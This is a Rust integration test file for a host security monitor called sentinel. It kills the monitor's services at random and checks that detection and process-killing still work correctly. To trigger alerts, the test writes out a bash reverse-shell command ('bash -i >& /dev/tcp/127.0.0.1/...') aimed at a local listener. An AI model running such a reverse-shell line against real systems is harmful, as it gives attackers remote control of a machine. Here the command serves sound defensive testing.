//! Processes that die or hang at any moment, under load: what is left works, and nobody is killed by mistake.
//!
//! `SENTINEL_FAULTS=100` has the services be killed a hundred times instead of twenty.

use std::{fs, time::Duration};

use nix::sys::signal::Signal;
use sentinel_ipc::clock::boot_ns;
use sentinel_tests::{
    bed::Bed,
    nspawn::{Machine, text},
    programs::compiled,
    sentinel::{PATIENCE, Sentinel, send, within},
};
use serde_json::Value;

const LOG: &str = "/var/log/sentinel/alerts.json";
const AUDIT: &str = "/var/log/sentinel-enforcer/audit.log";
const SERVICES: [&str; 3] = ["sentinel-loader", "sentinel-analyzer", "sentinel-enforcer"];

/// All lines of the log, which has to be whole ones.
fn alerts(machine: &Machine) -> Vec<Value> {
    let mut log = String::new();
    // A line that is being written may be seen in part, for a moment.
    let is_whole = || {
        log = text(&machine.run(&["cat", LOG]).stdout);
        log.is_empty() || log.ends_with('\n')
    };
    assert!(within(PATIENCE, is_whole), "a line that was begun");
    let lines = log.lines().map(|line| serde_json::from_str(line).expect("a whole line"));
    lines.filter(|line: &Value| line["pattern_name"] != "sensor_counters").collect()
}

fn journal(machine: &Machine) -> String {
    machine.told(&["journalctl", "--sync"]);
    machine.told(&["journalctl", "--no-pager", "--output=short", "--unit=sentinel-*"])
}

/// All three are there and see each other, and the chain kills.
fn are_well(machine: &Machine) {
    let well = within(PATIENCE, || {
        let asked = machine.run(&["sentinel", "status", "--json"]);
        let status: Value = serde_json::from_slice(&asked.stdout).unwrap_or_default();
        let parts = status["parts"].as_array().cloned().unwrap_or_default();
        let running = parts.iter().filter(|part| part["is_running"] == true).count();
        running == SERVICES.len() && status["is_watching"] == true
    });
    assert!(well, "{}", journal(machine));
}

/// Begins that a shell connects to somebody else in the machine; its unit.
fn begin_attack(machine: &Machine, number: usize) -> String {
    let port = 4000 + number;
    let listener = format!(
        "import socket\n\
         connection = socket.create_server((\"127.0.0.1\", {port})).accept()[0]\n\
         connection.settimeout(3)\n\
         while connection.recv(4096): pass"
    );
    machine.start(&format!("listener-{number}"), &["python3", "-c", &listener]);
    let shell = format!(
        "until bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; [ $? != 1 ]; do sleep 0.05; done"
    );
    machine.start(&format!("attack-{number}"), &["bash", "-c", &shell]);
    format!("attack-{number}.service")
}

/// The same, and waits for the alert.
fn attack(machine: &Machine, number: usize) -> Value {
    let unit = begin_attack(machine, number);
    let mut found = None;
    let came = within(PATIENCE, || {
        found = alerts(machine).into_iter().find(|alert| alert["unit"] == *unit);
        found.is_some()
    });
    assert!(came, "no alert of {unit}:\n{}", journal(machine));
    found.unwrap()
}

/// Has both files ask for kills, as many as there will be.
fn ask_for_kills(machine: &Machine) {
    for (file, from, to) in [
        ("analyzer.toml", "\n#grimoire-enforce = false", "\ngrimoire-enforce = true"),
        ("enforcer.toml", "\nenforce = false", "\nenforce = true"),
        ("enforcer.toml", "\nkills-per-minute = 10", "\nkills-per-minute = 1000"),
        ("enforcer.toml", "\nkills-per-minute-and-rule = 5", "\nkills-per-minute-and-rule = 1000"),
    ] {
        let path = format!("/etc/sentinel/{file}");
        let written = machine.read(&path);
        assert!(written.contains(from), "{file}: {written}");
        machine.write(&path, &written.replace(from, to));
    }
}

#[test]
fn services_that_are_killed_at_random_leave_a_working_chain_and_no_wrong_kill() {
    let Some(machine) = Machine::installed() else { return };
    let rounds = std::env::var("SENTINEL_FAULTS").map_or(20, |text| text.parse().unwrap());
    ask_for_kills(&machine);
    machine.told(&["systemctl", "start", "sentinel.target"]);
    are_well(&machine);
    machine.start("neighbour", &["sleep", "100000"]);
    machine.start("load", &["sh", "-c", "while :; do /bin/true; cat /etc/passwd >/dev/null; done"]);
    let neighbour = machine.property("neighbour", "MainPID");
    let mut killed = Vec::new();
    for round in 0..rounds {
        // Any moment of its work.
        std::thread::sleep(Duration::from_micros(boot_ns().unwrap() % 400_000));
        let service = SERVICES[round % SERVICES.len()];
        kill_and_await(&machine, service);
        let alert = attack(&machine, round);
        assert_eq!(alert["action"], "terminated", "round {round}: {alert}\n{}", journal(&machine));
        killed.push(alert["pid"].to_string());
    }
    // Everybody whom it killed is one that an alert is about, and the honest live.
    assert_eq!(audited(&machine, "verdict=terminated pid="), killed);
    assert_eq!(machine.property("neighbour", "MainPID"), neighbour);
    assert_eq!(machine.property("neighbour", "NRestarts"), "0");
    // Each loss of the loader and of the analyzer is told.
    let all = alerts(&machine);
    let of = |name: &str| all.iter().filter(|alert| alert["pattern_name"] == name).count();
    // Without the time of calls into the machine.
    for gap in all.iter().filter(|alert| alert["pattern_name"] == "sensor_gap") {
        eprintln!("{}", gap["message"]);
    }
    let [loaders, analyzers, _] =
        [0, 1, 2].map(|index| (0..rounds).filter(|round| round % 3 == index).count());
    assert_eq!(of("sensor_gone"), loaders, "{}", journal(&machine));
    // An enforcer that starts opens its own files before the loader knows it.
    assert_eq!(of("sentinel_file_changed"), 0, "{}", journal(&machine));
    assert!(of("sensor_gap") >= loaders.max(analyzers), "{}", journal(&machine));
}

/// Kills the service, and waits until the chain works again; says how long it took.
fn kill_and_await(machine: &Machine, service: &str) {
    let before = machine.property(service, "MainPID");
    let begun = boot_ns().unwrap();
    machine.told(&["systemctl", "kill", "--signal=KILL", service]);
    let again = || !["0", &before].contains(&machine.property(service, "MainPID").as_str());
    assert!(within(PATIENCE, again), "{service}: {}", journal(machine));
    are_well(machine);
    // The time of some calls into the machine is in it.
    eprintln!("{service}: {} ms until all works again", (boot_ns().unwrap() - begun) / 1_000_000);
}

/// Pids behind `words` in the enforcer's audit, which has to be whole lines.
fn audited(machine: &Machine, words: &str) -> Vec<String> {
    let audit = machine.read(AUDIT);
    assert!(audit.ends_with('\n') && audit.lines().all(|line| line.starts_with("time=")));
    let pid = |line: &str| Some(line.split(words).nth(1)?.split(' ').next()?.to_owned());
    audit.lines().filter_map(pid).collect()
}

#[test]
fn a_kill_that_is_under_way_when_somebody_dies_hits_who_was_meant_or_nobody_and_is_stated() {
    let Some(machine) = Machine::installed() else { return };
    ask_for_kills(&machine);
    machine.told(&["systemctl", "start", "sentinel.target"]);
    are_well(&machine);
    machine.start("neighbour", &["sleep", "100000"]);
    let neighbour = machine.property("neighbour", "MainPID");
    let mut shells = Vec::new();
    for round in 0..9 {
        let service = SERVICES[round % SERVICES.len()];
        // Three shells, so that one or the other is in the midst of its end.
        for shell in 0..3 {
            shells.push(begin_attack(&machine, round * 3 + shell));
        }
        kill_and_await(&machine, service);
    }
    // One after the last death ends for sure, and so everything before it is told.
    let last = attack(&machine, 100);
    assert_eq!(last["action"], "terminated", "{last}\n{}", journal(&machine));
    let all = alerts(&machine);
    let of_shells: Vec<&Value> =
        all.iter().filter(|alert| alert["pattern_name"] == "reverse_shell").collect();
    for alert in &of_shells {
        assert!(is_stated(alert), "{alert}\n{}", journal(&machine));
    }
    // Who ended by the enforcer was about to, and is one of the shells; whether an alert or the gap says so.
    let (meant, ended) =
        (audited(&machine, "audit intent pid="), audited(&machine, "verdict=terminated pid="));
    assert!(ended.iter().all(|pid| meant.contains(pid)), "{ended:?} of {meant:?}");
    let tells_of = |unit: &String| of_shells.iter().any(|alert| alert["unit"] == **unit);
    let untold: Vec<&String> = shells.iter().filter(|unit| !tells_of(unit)).collect();
    let of = |name: &str| all.iter().filter(|alert| alert["pattern_name"] == name).count();
    assert!(untold.is_empty() || of("sensor_gap") > 0, "{untold:?}\n{}", journal(&machine));
    let told: Vec<String> = of_shells.iter().map(|alert| alert["pid"].to_string()).collect();
    for pid in &meant {
        let is_told = told.contains(pid);
        assert!(is_told || of("sensor_gap") > 0, "{pid} is told by nobody");
    }
    assert_eq!(machine.property("neighbour", "MainPID"), neighbour);
    assert_eq!(machine.property("neighbour", "NRestarts"), "0");
}

/// Whether what became of the alert is one of what the death of a service can bring about.
fn is_stated(alert: &Value) -> bool {
    match alert["action"].as_str().unwrap() {
        "terminated" | "already_exited" => true,
        // A shell that came while there was no sensor, of which it is not known what it was given.
        "logged" => alert["severity"] == "high",
        // Its asker or its witness was gone, or came too late.
        other => ["no_enforcer", "no_answer", "no_loader", "expired", "unknown_process"]
            .iter()
            .any(|reason| other.strip_prefix("kill_refused:") == Some(reason)),
    }
}

/// Memory of a process, KiB.
fn resident(pid: u32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|line| line.starts_with("VmRSS:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[test]
fn an_analyzer_that_hangs_neither_blocks_the_kernel_nor_fills_the_loader() {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let before = resident(sentinel.loader());
    send(sentinel.pid(), Signal::SIGSTOP);
    // Many times what socket and rings hold.
    let mut flood = bed.command(compiled("flood"));
    assert!(flood.args(["1", "400000"]).status().unwrap().success(), "it is not held up");
    let after = resident(sentinel.loader());
    assert!(after < before + 16 * 1024, "{before} KiB, then {after}");
    send(sentinel.pid(), Signal::SIGCONT);
    std::thread::sleep(Duration::from_secs(2));
    let outcome = sentinel.stop();
    let [passed, emitted, dropped, forwarded, processed] =
        ["after filter ", "emitted ", "dropped ", "forwarded ", "processed "]
            .map(|what| outcome.total(what));
    assert!(dropped > 0, "the flood was too small: {}", outcome.output);
    assert_eq!(emitted + dropped, passed, "{}", outcome.output);
    assert_eq!((forwarded, processed), (emitted, emitted), "{}", outcome.output);
    let losses = outcome.alerts.iter().filter(|alert| alert["pattern_name"] == "sensor_loss");
    assert!(losses.count() > 0, "{}", outcome.output);
}
